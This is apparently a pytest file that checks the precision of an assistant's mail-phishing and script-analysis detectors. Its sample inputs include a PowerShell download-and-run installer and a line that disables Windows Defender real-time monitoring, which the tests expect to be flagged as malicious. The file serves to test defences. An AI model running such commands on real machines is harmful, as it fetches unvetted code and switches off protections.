"""Nothing high on ordinary inputs, and nothing ordinary about the lures of strangers.

The same on a machine's own files: ``python -m tests.benchmarks.precision``.
"""

from __future__ import annotations

import pytest

from svc.assistant.findings import AnyFinding, Severity, with_facts
from svc.assistant.skills.catalogue import SKILLS, skill_named
from svc.assistant.skills.mail.findings import MailVerdict
from svc.assistant.skills.script.findings import ScriptSummary
from tests.support.first_contacts import first_contacts
from tests.support.mail_corpus import corpus
from tests.support.ordinary_inputs import COUNT, ordinary_inputs
from tests.support.run_tool import GRAVE, findings_of

HALVES = ("open", "held")


@pytest.mark.parametrize("name", [skill.name for skill in SKILLS])
def test_no_ordinary_input_has_a_finding_of_high_severity(name: str):
    inputs = ordinary_inputs(name)
    assert len(inputs) >= COUNT
    found = {source: findings_of(skill_named(name), content, source) for source, content in inputs.items()}
    grave = {source: [one.title for one in all_ if one.severity in GRAVE] for source, all_ in found.items()}
    assert {source: titles for source, titles in grave.items() if titles} == {}


def verdict(raw: bytes) -> MailVerdict:
    [finding] = with_facts(findings_of(skill_named("mail"), raw, "a.eml"), MailVerdict)
    return finding.facts


@pytest.mark.parametrize("half", HALVES)
def test_a_strangers_lure_with_something_to_open_is_never_ordinary(half: str):
    verdicts = {name: verdict(raw).verdict for name, raw in first_contacts(f"{half}_lures").items()}
    assert len(verdicts) == 15
    assert [name for name, found in verdicts.items() if found == "ordinary"] == []


@pytest.mark.parametrize("half", HALVES)
def test_ordinary_mails_about_the_same_subjects_are_ordinary(half: str):
    verdicts = {name: verdict(raw).verdict for name, raw in first_contacts(f"{half}_ordinary").items()}
    assert len(verdicts) == 15
    assert [name for name, found in verdicts.items() if found != "ordinary"] == []


def test_few_ordinary_mails_need_a_check_and_none_is_certain():
    found = {name: verdict(raw).verdict for name, raw in corpus("ordinary")}
    # a list's mail that repeats a lure with its address: only fields that any sender can write tell them apart
    assert {name.partition(".")[0] for name, one in found.items() if one in ("phishing", "fraud")} <= {
        "tech-list-digest"
    }
    verdicts = list(found.values())
    assert verdicts.count("ordinary") >= 0.9 * len(verdicts)


def test_a_mail_far_above_the_threshold_is_certain():
    verdicts = [verdict(raw) for _, raw in corpus("traps")]
    far = [one.verdict for one in verdicts if one.score >= 10]
    assert len(far) > 100
    assert set(far) <= {"phishing", "fraud", "spam"}


def script(text: str) -> tuple[str, list[AnyFinding]]:
    found = findings_of(skill_named("script"), text.encode(), "a.txt")
    [summary] = with_facts(found, ScriptSummary)
    return summary.facts.verdict, found


INSTALLER = "Invoke-WebRequest https://a.example/a.msi -OutFile C:\\a.msi\nStart-Process C:\\a.msi\n"


def test_what_installers_do_is_worth_a_look_and_no_more():
    judged, found = script(INSTALLER)
    assert judged == "suspicious"
    assert {one.severity for one in found} <= {Severity.MEDIUM, Severity.LOW, Severity.INFO}


def test_what_installers_do_is_malicious_together_with_an_attack():
    judged, found = script(INSTALLER + "Set-MpPreference -DisableRealtimeMonitoring $true\n")
    assert judged == "malicious"
    assert Severity.CRITICAL in {one.severity for one in found}
